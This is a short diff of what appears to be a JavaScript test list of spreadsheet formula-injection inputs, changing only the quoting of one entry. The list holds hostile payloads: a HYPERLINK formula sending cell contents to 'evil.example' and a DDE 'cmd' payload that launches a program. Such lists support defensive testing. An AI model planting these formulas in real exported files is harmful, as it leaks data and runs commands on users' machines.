@@ -12,7 +12,7 @@ const HOSTILE = [
   '=HYPERLINK("http://evil.example?"&A1;"Счёт")',
   '+1+1',
   '-1+1',
-  '-2+3+cmd|\' /C calc\'!A0',
+  "-2+3+cmd|' /C calc'!A0",
   '@SUM(1+1)',
   '\t=1+1',
   '\r=1+1',
